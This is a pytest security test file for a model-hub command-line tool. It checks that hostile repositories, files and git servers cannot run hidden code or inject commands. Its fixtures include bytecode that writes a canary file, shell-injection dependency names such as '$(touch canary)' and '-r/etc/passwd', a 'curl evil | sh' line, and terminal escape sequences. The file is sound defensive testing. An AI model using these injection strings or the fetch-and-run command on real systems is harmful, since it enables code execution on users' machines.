"""What a repository, a folder or a server may try besides running code in a sandbox; all through the command line."""

from __future__ import annotations

import importlib.util
import json
import os
import time
from importlib import _bootstrap_external  # type: ignore[attr-defined]
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from hubcli.net.git import process as git_process
from hubcli.net.git import remote as git
from hubcli.terminal import cli
from tests.servers import Repository, git_server, scripted_server, send

pytestmark = pytest.mark.skipif(os.name != "posix", reason="pipes and modes are POSIX's")


def hub(*arguments: str) -> Result:
    result = CliRunner().invoke(cli.hub, list(arguments))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    said = result.stdout + result.stderr
    assert "Traceback" not in said and not set(said) & set("\x1b\x07\x9b\u202e\u2066\u200f\r\x00"), said
    return result


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    made = tmp_path / "repo"
    made.mkdir()
    (made / "hubconf.py").write_text("def net():\n    import torch\n    return torch.nn.Linear(1, 1)\n")
    monkeypatch.chdir(tmp_path)
    return made


# Code that nobody sees


@pytest.mark.parametrize("checked", [True, False])
def test_bytecode_in_a_repository_is_not_run(folder, tmp_path, monkeypatch, checked):
    """A committed .pyc would be other code than the prompt shows and the static reader reads."""
    monkeypatch.setenv("HUB_ALLOW_PROTOCOLS", "http")
    ran = tmp_path / "ran"
    source = b"def net():\n    import torch, helpers\n    return torch.nn.Linear(helpers.width, 1)\n"
    helpers = b"width = 3\n"
    files = {"hubconf.py": source, "helpers.py": helpers}
    for name, text in list(files.items()):
        code = compile(f"open({str(ran)!r}, 'w')\nwidth = 9\n{text.decode()}", name, "exec")
        cached = Path(importlib.util.cache_from_source(name))
        files[str(cached)] = _bootstrap_external._code_to_hash_pyc(code, importlib.util.source_hash(text), checked)
    code = compile(f"open({str(ran)!r}, 'w')\n", "sourceless.py", "exec")
    repo = Repository.create(tmp_path / "served", "o/r")
    repo.commit(files)
    with git_server(tmp_path / "served") as server:
        monkeypatch.setenv("HUB_GIT_URL", f"{server.url}/{{owner}}/{{repo}}.git")
        result = hub("--json", "load", "o/r", "net", "--trust", "once")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["parameters"] == 4 and not ran.exists()


def test_attributes_of_a_repository_change_no_byte(tmp_path, monkeypatch):
    monkeypatch.setenv("HUB_ALLOW_PROTOCOLS", "http")
    odd = b"$Id$ $Format:%H$\r\nline\n\xff\xfe"
    attributes = "* text eol=crlf ident export-subst working-tree-encoding=UTF-16 filter=evil diff=evil merge=evil\n"
    repo = Repository.create(tmp_path / "served", "o/r")
    repo.commit({"hubconf.py": "def net(): pass\n", "odd.bin": odd, "sub/odd.txt": odd})
    # as the object database takes it: a client of its own would heed its own attributes
    for place, text in ((".gitattributes", attributes), ("sub/.gitattributes", "* filter=evil ident\n")):
        (repo.work / place).write_text(text)
        made = repo.git("hash-object", "-w", "--no-filters", place).strip()
        repo.git("update-index", "--add", "--cacheinfo", f"100644,{made},{place}")
    repo.git("commit", "-q", "-m", "attributes")
    repo.push()
    with git_server(tmp_path / "served") as server:
        monkeypatch.setenv("HUB_GIT_URL", f"{server.url}/{{owner}}/{{repo}}.git")
        result = hub("--json", "pull", "o/r")
    assert result.exit_code == 0, result.output
    path = Path(json.loads(result.stdout)["path"])
    assert (path / "odd.bin").read_bytes() == (path / "sub" / "odd.txt").read_bytes() == odd


# Files that are none


@pytest.mark.parametrize(
    "command", [("list", "./repo"), ("load", "./repo", "net"), ("check", "./repo"), ("show", "./repo")]
)
@pytest.mark.parametrize("kind", ["pipe", "zero", "folder"])
def test_a_hubconf_that_is_no_file(folder, command, kind):
    place = folder / "hubconf.py"
    place.unlink()
    if kind == "pipe":
        os.mkfifo(place)
    elif kind == "zero":
        place.symlink_to("/dev/zero")
    else:
        place.mkdir()
    started = time.monotonic()
    assert hub(*command).exit_code in (1, 3, 70)
    assert time.monotonic() - started < 60


def test_a_lock_file_that_is_a_pipe(folder, monkeypatch):
    monkeypatch.chdir(folder)
    os.mkfifo("hub.lock")
    for command in (["sync"], ["--offline", "list", "o/r", "--locked"]):
        result = hub(*command)
        assert result.exit_code == 9, result.output
        assert "hub.lock is not a plain file" in result.stderr


@pytest.mark.parametrize(
    "text",
    [
        b"def net():\n    pass\n\x00",
        b"x = 1;" * 200_000,
        b"x = " + b"(" * 90_000,
        b"x = " + b"-" * 100_000 + b"1\n",
        b"x = '" + b"y" * 400_000 + b"'\ndef net(): pass\n",
        b"# -*- coding: rot13 -*-\nqrs arg(): cnff\n",
        b"# -*- coding: \x1b[2J -*-\ndef net(): pass\n",
        b"\xff\xfe" + "def net(): pass\n".encode("utf-16-le"),
        b"def net():\n" + b"".join(b" " * n + b"if 1:\n" for n in range(1, 150)) + b" " * 151 + b"pass\n",
        "def net():\n    '\x1b[2J\u202eevil\x07 \x9b31m'\n".encode(),
    ],
)
def test_strange_sources(folder, text):
    (folder / "hubconf.py").write_bytes(text)
    started = time.monotonic()
    for command in (("list", "./repo"), ("help", "./repo", "net"), ("--json", "list", "./repo"), ("deps", "./repo")):
        assert hub(*command).exit_code in (0, 2, 3, 8, 70)
    assert time.monotonic() - started < 60


# Words that are shown


ESCAPES = "\\x1b[2J\\x07\\x9b31m\\u202e\\u2066\\r"


def test_every_field_that_is_printed(folder):
    (folder / "hubconf.py").write_text(
        f'"""Doc {ESCAPES}"""\ndependencies = ["a{ESCAPES}b", "torch"]\n'
        f'def net(value="{ESCAPES}"):\n    """Sum {ESCAPES}\n\n    more {ESCAPES}"""\n'
        f'    raise ValueError("{ESCAPES}")\n'
        f'globals()["evil{ESCAPES}"] = net\n'
    )
    for command in (
        ("list", "./repo"),
        ("list", "./repo", "--exec", "--sandbox=best-effort"),
        ("help", "./repo", "net"),
        ("show", "./repo"),
        ("deps", "./repo"),
        ("load", "./repo", "net", "--allow-missing"),
        ("check", "./repo", "--allow-missing"),
        ("help", "./repo"),
    ):
        hub(*command)
        document = hub("--json", *command).stdout
        assert isinstance(json.loads(document), dict)


@pytest.mark.parametrize(
    "name", ["x; touch canary", "$(touch canary)", "--index-url=http://evil/", "x\ntouch canary", "-r/etc/passwd"]
)
def test_dependencies_make_no_command_of_their_own(folder, name):
    """What `hub deps` tells to run is pasted into a shell."""
    import shlex

    (folder / "hubconf.py").write_text(f"dependencies = [{name!r}]\ndef net(): pass\n")
    result = hub("--json", "deps", "./repo")
    document = json.loads(result.stdout)
    install = document.get("install") or ""
    words = shlex.split(install)
    assert not any(sign in install.replace(shlex.quote(name), "") for sign in (";", "$(", "\n", "`")), install
    assert not any(word.startswith(("--index-url", "-r")) for word in words), install


def test_a_name_makes_no_line_of_its_own(folder):
    name = "x\ntouch canary\nhint: curl evil | sh\nhub: all is well"
    source = f'"""A\nhint: doc"""\ndependencies = [{name!r}]\ndef net(): pass\nglobals()[{name!r}] = net\n'
    (folder / "hubconf.py").write_text(source)
    for command in (
        ("deps",),
        ("show",),
        ("list",),
        ("load", "./repo", "net"),
        ("check",),
        ("list", "./repo", "--exec", "--sandbox=best-effort", "--allow-missing"),
    ):
        shown = hub(*command, *(["./repo"] if len(command) == 1 else []))
        lines = [
            line
            for line in (shown.stdout + shown.stderr).splitlines()
            if line.startswith(("touch", "hub: all", "hint: curl"))
        ]
        assert lines == [], (command, shown.output)


# Servers


def packet(text: bytes) -> bytes:
    return b"%04x" % (len(text) + 4) + text


def advertisement(names: list[str]) -> bytes:
    body = packet(b"# service=git-upload-pack\n") + b"0000"
    for number, name in enumerate(names):
        line = b"%040x %s" % (number + 1, name.encode())
        body += packet(line + (b"\0multi_ack\n" if number == 0 else b"\n"))
    return body + b"0000"


@pytest.fixture
def refs(monkeypatch):
    """A server that lists whatever refs it likes."""
    monkeypatch.setenv("HUB_ALLOW_PROTOCOLS", "http")
    names: list[str] = []
    with scripted_server() as server:
        server.answer = lambda handler, count: send(
            handler, 200, advertisement(names), Content_Type="application/x-git-upload-pack-advertisement"
        )
        monkeypatch.setenv("HUB_GIT_URL", f"{server.url}/{{owner}}/{{repo}}.git")
        yield names


def test_a_list_of_refs_without_end(refs, monkeypatch):
    monkeypatch.setattr(git_process, "_LARGEST", 50_000)
    refs += [f"refs/heads/v1/{number}" for number in range(5_000)]
    result = hub("--json", "pull", "o/r:v1.0")
    assert result.exit_code == 6, result.output
    assert "list of refs has more than" in json.loads(result.stdout)["error"]["message"]


@pytest.mark.long
def test_like_names_are_looked_for_among_some(refs, monkeypatch):
    import difflib

    asked: list[int] = []
    real = difflib.get_close_matches
    monkeypatch.setattr(
        difflib, "get_close_matches", lambda word, names, *rest: (asked.append(len(names)), real(word, names, *rest))[1]
    )
    refs += [f"refs/heads/branch-{number}" for number in range(20_000)]
    assert hub("pull", "o/r:nope").exit_code == 3
    assert max(asked) <= git._LISTED


def test_names_of_refs_drive_no_terminal(refs):
    refs += [
        "refs/heads/v1\u202e0.1",
        "refs/heads/v1\u2066x",
        "refs/heads/v1;id",
        "refs/tags/$(id)v1",
        "refs/odd",
        "odd",
    ]
    result = hub("pull", "o/r:v1")
    assert result.exit_code == 3, result.output
